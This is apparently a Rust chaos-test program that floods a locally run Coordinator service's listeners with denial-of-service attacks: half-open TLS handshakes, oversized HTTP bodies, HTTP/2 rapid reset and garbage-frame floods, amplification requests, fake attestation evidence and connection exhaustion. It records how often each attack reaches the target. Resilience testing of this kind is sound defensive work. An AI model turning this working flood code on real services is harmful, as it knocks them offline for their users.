//! Every flood that a Coordinator's listeners were ever brought down by, at once and until killed: a process of its own,
//! so that a test can give it a control group of its own.
#![expect(clippy::unwrap_used, reason = "a test's program fails by panicking")]

use std::{
    collections::BTreeMap,
    net::{IpAddr, SocketAddr},
    path::PathBuf,
    sync::{Arc, Mutex},
    time::Duration,
};

use atls::{ClientConfig, ConnectionKey};
use chaos_tests::{
    http2::{frame, headers},
    now,
};
use clap::Parser;
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
};

/// Attacks a Coordinator on this machine.
#[derive(Debug, Parser)]
struct Args {
    #[arg(long)]
    user: SocketAddr,
    #[arg(long)]
    mesh: SocketAddr,
    #[arg(long)]
    http: SocketAddr,
    #[arg(long)]
    transit: SocketAddr,
    #[arg(long)]
    probe: SocketAddr,
    /// Where to write, every second, how often each attack reached the Coordinator: JSON.
    #[arg(long, value_name = "FILE")]
    rounds: PathBuf,
}

const SET_MANIFEST: &str = "/edgelesssys.contrast.userapi.UserAPI/SetManifest";
const GET_MANIFESTS: &str = "/edgelesssys.contrast.userapi.UserAPI/GetManifests";
const RECOVER: &str = "/edgelesssys.contrast.userapi.UserAPI/Recover";
const SEGMENTS: &str = "/contrast.history.v1.History/Segments";

/// As many hosts attack; each has an address of its own.
const HOSTS: u8 = 4;

async fn from(host: u8, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(IpAddr::from([127, 0, 0, 2 + host]), 0))?;
    socket.connect(to).await
}

async fn attested(host: u8, to: SocketAddr) -> std::io::Result<impl AsyncRead + AsyncWrite + Unpin> {
    let key = Arc::new(ConnectionKey::generate().map_err(std::io::Error::other)?);
    let config = ClientConfig { key, issuer: None, handshake_timeout: Duration::from_secs(30) };
    let stream = from(host, to).await?;
    Ok(atls::connect(stream, &config, now()).await.map_err(std::io::Error::other)?.0)
}

/// A connection to the user port, with HTTP/2 begun.
async fn http2(host: u8, to: SocketAddr) -> std::io::Result<impl AsyncRead + AsyncWrite + Unpin> {
    let mut stream = attested(host, to).await?;
    stream
        .write_all(&[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, &[])].concat())
        .await?;
    Ok(stream)
}

/// Reads until the other side has had enough, or for a while.
async fn hold(mut stream: impl AsyncRead + Unpin) {
    let mut bytes = vec![0; 64 << 10];
    let read = async { while stream.read(&mut bytes).await.is_ok_and(|read| read > 0) {} };
    let _ = tokio::time::timeout(Duration::from_secs(20), read).await;
}

/// Half a TLS record on many connections; a handshake and then silence.
async fn silent(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut held = Vec::new();
    for _ in 0..50 {
        let mut stream = from(host, to).await?;
        let _ = stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0]).await;
        held.push(stream);
    }
    let stream = attested(host, to).await?;
    hold(stream).await;
    drop(held);
    Ok(())
}

/// Announces the largest manifest there may be and sends nearly all of it.
async fn large_body(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut stream = from(host, to).await?;
    let head = "POST /v1/manifest HTTP/1.1\r\nHost: c\r\nContent-Type: application/json\r\nContent-Length: 16777216\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    for _ in 0..15 {
        stream.write_all(&vec![b' '; 1 << 20]).await?;
    }
    hold(stream).await;
    Ok(())
}

/// The same over HTTP/2, on many streams, beginning with thousands of empty policies.
async fn large_messages(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut stream = http2(host, to).await?;
    for request in 0..8 {
        let id = 2 * request + 1;
        let announced = [&[0], (16_u32 << 20).to_be_bytes().as_slice()].concat();
        stream.write_all(&[headers(id, SET_MANIFEST), frame(0, 0, id, &announced)].concat()).await?;
        let part = [0x12, 0].repeat(8_000); // field 2, empty
        let _ = stream.write_all(&frame(0, 0, id, &part)).await;
    }
    hold(stream).await;
    Ok(())
}

/// Answers that are large, asked for again and again and not fetched.
async fn amplified(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut stream = http2(host, to).await?;
    for request in 0..100 {
        let id = 2 * request + 1;
        let path = [GET_MANIFESTS, RECOVER, SEGMENTS][usize::try_from(request % 3).unwrap()];
        stream.write_all(&[headers(id, path), frame(0, 1, id, &[0; 5])].concat()).await?;
    }
    tokio::time::sleep(Duration::from_secs(5)).await; // what is attacked is what waits to be fetched
    Ok(())
}

async fn amplified_http(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let nonce = "A".repeat(43) + "=";
    for path in ["/v1/attest", "/v1/attest-key", "/attest"] {
        let mut stream = from(host, to).await?;
        let body = format!("{{\"nonce\":\"{nonce}\"}}");
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: c\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(head.as_bytes()).await?;
        let mut start = [0; 100];
        let _ = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut start)).await;
    }
    Ok(())
}

/// Evidence that is nobody's, on HTTP and in handshakes.
async fn bad_evidence(host: u8, http: SocketAddr, mesh: SocketAddr) -> std::io::Result<()> {
    let body = format!(
        "{{\"nonce\":\"{}=\",\"raw_attestation_doc\":\"{}\",\"attestation_type\":[1,3,9900,2,1],\"public_key\":\"AAAA\"}}",
        "A".repeat(43),
        "A".repeat(60_000)
    );
    let mut stream = from(host, http).await?;
    let head = format!(
        "POST /v1/mesh-cert HTTP/1.1\r\nHost: c\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\
         Connection: close\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(head.as_bytes()).await?;
    hold(stream).await;
    let stream = attested(host, mesh).await?;
    hold(stream).await;
    Ok(())
}

/// Frames that mean nothing.
async fn senseless_frames(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut stream = http2(host, to).await?;
    let frames = [frame(2, 0, 1, &[0, 0, 0, 0, 7]), frame(6, 0, 0, &[0; 8]), frame(4, 0, 0, &[])].concat();
    for _ in 0..1000 {
        stream.write_all(&frames.repeat(500)).await?;
    }
    Ok(())
}

/// Streams that are opened and reset at once.
async fn rapid_reset(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut stream = http2(host, to).await?;
    for request in 0..10_000 {
        let id = 2 * request + 1;
        let reset = frame(3, 0, id, &8_u32.to_be_bytes());
        stream.write_all(&[headers(id, GET_MANIFESTS), reset].concat()).await?;
    }
    Ok(())
}

/// Probes, more than there are places.
async fn probes(host: u8, to: SocketAddr) -> std::io::Result<()> {
    let mut held = Vec::new();
    for _ in 0..30 {
        held.push(from(host, to).await?);
    }
    tokio::time::sleep(Duration::from_secs(1)).await; // the attack is that they are open
    Ok(())
}

/// How often each attack reached the Coordinator, by its name.
type Rounds = Arc<Mutex<BTreeMap<&'static str, u64>>>;

/// Runs an attack again and again; a refusal is no reason to stop. One that ran to its end counts, and so does one whose
/// connection the Coordinator ended.
fn again<F>(rounds: &Rounds, name: &'static str, attack: impl Fn() -> F + Send + Sync + 'static)
where
    F: Future<Output = std::io::Result<()>> + Send + 'static,
{
    let rounds = Arc::clone(rounds);
    rounds.lock().unwrap().entry(name).or_default();
    tokio::spawn(async move {
        loop {
            let outcome = attack().await;
            let was_ended = |error: &std::io::Error| {
                use std::io::ErrorKind::{BrokenPipe, ConnectionAborted, ConnectionReset, UnexpectedEof};
                matches!(error.kind(), BrokenPipe | ConnectionAborted | ConnectionReset | UnexpectedEof)
            };
            if outcome.as_ref().err().is_none_or(was_ended) {
                *rounds.lock().unwrap().entry(name).or_default() += 1;
            }
            if outcome.is_err() {
                tokio::time::sleep(Duration::from_millis(100)).await; // or refusals alone would take the processor
            }
        }
    });
}

#[tokio::main]
async fn main() {
    let Args { user, mesh, http, transit, probe, rounds: report } = Args::parse();
    let rounds = Rounds::default();
    for host in 0..HOSTS {
        for to in [user, mesh, http, transit] {
            again(&rounds, "silent", move || silent(host, to));
        }
        for _ in 0..3 {
            again(&rounds, "large body", move || large_body(host, http));
            again(&rounds, "large messages", move || large_messages(host, user));
            again(&rounds, "amplified", move || amplified(host, user));
            again(&rounds, "amplified over HTTP", move || amplified_http(host, http));
        }
        again(&rounds, "bad evidence", move || bad_evidence(host, http, mesh));
        again(&rounds, "senseless frames", move || senseless_frames(host, user));
        again(&rounds, "rapid reset", move || rapid_reset(host, user));
        again(&rounds, "probes", move || probes(host, probe));
    }
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        let text = serde_json::to_string(&*rounds.lock().unwrap()).unwrap();
        tokio::fs::write(&report, text).await.unwrap();
    }
}
